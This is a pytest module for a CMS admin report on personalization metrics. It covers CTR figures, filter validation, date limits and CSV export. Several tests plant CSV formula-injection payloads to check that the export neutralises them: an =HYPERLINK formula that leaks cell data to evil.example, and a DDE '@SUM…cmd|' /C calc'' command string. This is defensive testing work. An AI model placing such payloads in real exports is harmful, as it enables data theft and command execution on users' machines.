"""Reports -> Personalization insights (issue 17 item 3): figures from the rows the worker flushes,
filters validated with precise JSON errors, empty states that say what will appear, CSV export."""

from __future__ import annotations

import csv
import io
import time
import uuid
from datetime import UTC, datetime, timedelta

import pytest

from tailored.core.insights import wilson_interval
from tailored.insights import counting
from tailored.models import Alert
from tests.helpers import ELECTRONICS_VARIANT, HOME_BLOCK

pytestmark = pytest.mark.django_db

URL = "/admin/insights/"
HOUR = int(time.time() // 3600) - 1


def home_page_id() -> int:
    from cms.models import HomePage

    return HomePage.objects.live().first().pk


def counted(variant: str, impressions: int, clicks: int, conversions: int = 0, segment: str = "", device: str = "desktop", hour: int = HOUR):
    """Rows as the worker's flush writes them."""
    cell = f"{hour}|{home_page_id()}|{HOME_BLOCK}|{variant}|{segment}|{device}|DE"
    counting.apply(uuid.uuid4().hex, {f"{cell}|i": impressions, f"{cell}|u": impressions, f"{cell}|c": clicks, f"{cell}|ca": conversions})


def test_each_variant_shows_impressions_ctr_with_its_interval_and_lift(editor):
    counted("fallback", 1000, 50, 10)
    counted(ELECTRONICS_VARIANT, 500, 40, 10)
    html = editor.get(URL).content.decode()
    assert "Personalized: Good things for every day" in html and "Electronics fans" in html
    low, high = wilson_interval(40, 500)
    assert "8.0%" in html and f"{low:.1%}" in html and f"{high:.1%}" in html
    assert "+60.0%, +100.0%" in html  # CTR 8% over 5%, conversion 2% over 1%
    assert "<polyline" in html and 'data-tl-line="Electronics fans"' in html


def test_filters_narrow_the_rows(editor):
    counted("fallback", 1000, 50, device="desktop")
    counted("fallback", 300, 3, device="mobile")
    counted("fallback", 100, 9, segment="electronics-fans", device="mobile")
    assert 'data-tl-impressions>1300<' in editor.get(URL).content.decode()
    assert 'data-tl-impressions>300<' in editor.get(URL + "?device=mobile").content.decode()
    assert 'data-tl-impressions>100<' in editor.get(URL + "?segment=electronics-fans").content.decode()
    assert "data-tl-empty" in editor.get(URL + "?country=FR").content.decode()


def test_an_empty_report_says_what_will_appear(editor):
    html = editor.get(URL).content.decode()
    assert "data-tl-empty" in html and "each block appears here with every variant" in html
    assert "data-tl-no-alerts" in html and "data-tl-no-movers" in html and "data-tl-no-scores" in html


@pytest.mark.parametrize(
    ("query", "field"),
    [("start=yesterday", "start"), ("start=2026-02-01&end=2026-01-01", "start"), ("device=fridge", "device"),
     ("country=germany", "country"), ("segment=Not%20A%20Slug", "segment"), ("page=x", "page"), ("format=csv&table=x", "table"),
     ("page=%C2%B2", "page"), ("page=%D9%A3", "page"), ("page=1234567890123456789", "page"),  # "²", "٣": isdigit() but not int()
     ("start=20260101", "start"), ("end=2026-W01-1", "end")],  # ISO forms fromisoformat takes, not YYYY-MM-DD
)
def test_a_bad_filter_is_a_json_400_naming_it(editor, query, field):
    response = editor.get(f"{URL}?{query}")
    assert response.status_code == 400
    assert response.json()["error"] == "invalid_filter" and response.json()["field"] == field


# Dates whose arithmetic (the default week, the movers' two weeks back, the hourly rows' day
# after the end) would leave the calendar, and the field each 400 names.
BEYOND_THE_CALENDAR = [
    ("end=0001-01-01", "end"), ("start=0001-01-01&end=0001-01-02", "start"), ("start=0001-01-08&end=0001-01-10", "start"),
    ("start=0001-12-31&end=0002-01-01", "start"), ("end=9999-12-31", "end"), ("start=9999-01-01&end=9999-01-02", "start"),
]
AT_THE_CALENDARS_EDGES = ["start=0002-01-01&end=0002-01-02", "end=0002-01-01", "start=9998-12-30&end=9998-12-31"]


@pytest.mark.parametrize("export", ["", "&format=csv&table=variants", "&format=csv&table=movers",
                                    "&format=csv&table=alerts", "&format=csv&table=models"])
def test_a_date_beyond_the_calendars_edges_is_a_json_400_and_one_at_them_answers(editor, export):
    counted("fallback", 1000, 50)  # rows, so the models table reads their hours (the end + 1 day)
    for query, field in BEYOND_THE_CALENDAR:
        response = editor.get(f"{URL}?{query}{export}")
        assert response.status_code == 400, query
        assert response.json() == {"error": "invalid_filter", "field": field, "message": "a date is between 0002-01-01 and 9998-12-31"}
    for query in AT_THE_CALENDARS_EDGES:
        assert editor.get(f"{URL}?{query}{export}").status_code == 200, query


def test_the_variants_table_exports_as_csv(editor):
    counted("fallback", 1000, 50, 10)
    response = editor.get(URL + "?format=csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [(r["variant_key"], r["impressions"], r["clicks"], r["ctr"]) for r in rows] == [("fallback", "1000", "50", "0.05")]


def test_top_movers_compare_the_last_seven_days_with_the_seven_before(editor):
    week_ago = HOUR - 8 * 24
    counted("fallback", 1000, 50, hour=week_ago)
    counted("fallback", 1000, 25, hour=HOUR)
    html = editor.get(URL).content.decode()
    assert html.count("data-tl-mover>") == 1 and "<td>-50.0%</td>" in html


def test_the_report_needs_the_admin(client):
    assert client.get(URL).status_code == 302


def test_alerts_show_on_the_dashboard_and_in_the_report(editor):
    since = datetime.fromtimestamp(HOUR * 3600, tz=UTC) - timedelta(hours=1)
    Alert.objects.create(kind=Alert.Kind.CTR, key="k", direction="drop", since=since, baseline=0.05, observed=0.03,
                         message="CTR of “Fallback” dropped 40%", link=URL + "#block-x")
    assert "CTR of “Fallback” dropped 40%" in editor.get("/admin/").content.decode()
    assert 'data-tl-alert="ctr"' in editor.get(URL).content.decode()


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def csv_rows(editor, table: str) -> list[list[str]]:
    response = editor.get(f"{URL}?format=csv&table={table}")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


def retitle_home_and_name_a_variant_by_its_segment(segment_name: str) -> None:
    """The home page titled like a formula, and the electronics variant left without a label, so
    its summary (the segment's name, as the block's clean() writes it) labels it in the report."""
    from blocks.personalized import segment_names, summary_label
    from cms.models import HomePage
    from tailored.models import Segment

    Segment.objects.create(name=segment_name, slug="formula-fans", rule={"field": "profile.page_views", "op": "gte", "value": 1})
    home = HomePage.objects.get()
    raw = home.body.raw_data
    personalized = next(block for block in raw if block["type"] == "personalized")
    variant = next(v for v in personalized["value"]["variants"] if v["id"] == ELECTRONICS_VARIANT)["value"]
    variant["label"], variant["segments"] = "", ["formula-fans"]
    variant["summary"] = summary_label(variant, segment_names(["formula-fans"]))
    home.body, home.title = raw, HYPERLINK
    home.save_revision().publish()


def test_the_csv_neutralises_text_that_a_spreadsheet_would_run_as_a_formula(editor):
    retitle_home_and_name_a_variant_by_its_segment("@SUM(1+1)*cmd|' /C calc'!A0")
    counted("fallback", 1000, 50, 10)
    counted(ELECTRONICS_VARIANT, 500, 40, 10)
    counted("=1+2", 300, 3)  # a variant key is sent by the visitor's browser: anything of 64 characters
    counted("-2+3", 200, 2)
    cells = {(row[4], row[5]): row for row in csv_rows(editor, "variants")[1:]}
    assert {row[0] for row in cells.values()} == {"'" + HYPERLINK}
    assert ("'@SUM(1+1)*cmd|' /C calc'!A0", ELECTRONICS_VARIANT) in cells
    assert ("'=1+2", "'=1+2") in cells and ("'-2+3", "'-2+3") in cells
    fans = cells[("'@SUM(1+1)*cmd|' /C calc'!A0", ELECTRONICS_VARIANT)]
    assert fans[6:9] == ["500", "500", "40"] and fans[9] == "0.08"  # numbers stay numbers
    assert float(cells[("'-2+3", "'-2+3")][17]) < 0  # a negative lift over the fallback, unquoted


def test_the_movers_and_alerts_csv_neutralise_text_and_keep_negative_numbers(editor):
    retitle_home_and_name_a_variant_by_its_segment("=cmd")
    counted("fallback", 1000, 50, hour=HOUR - 8 * 24)
    counted("fallback", 1000, 25, hour=HOUR)
    header, mover = csv_rows(editor, "movers")
    assert header[0] == "page" and mover[0] == "'" + HYPERLINK and mover[5] == "-0.5"  # the change, a number
    since = datetime.fromtimestamp(HOUR * 3600, tz=UTC)
    for message in ("@cmd", "+1+1", "-1+1", "\t=1+1", "\r=1+1", "CTR dropped"):
        Alert.objects.create(kind=Alert.Kind.CTR, key=message, direction="drop", since=since, baseline=0.05, observed=0.03, message=message)
    messages = {row[7] for row in csv_rows(editor, "alerts")[1:]}
    assert messages == {"'@cmd", "'+1+1", "'-1+1", "'\t=1+1", "'\r=1+1", "CTR dropped"}
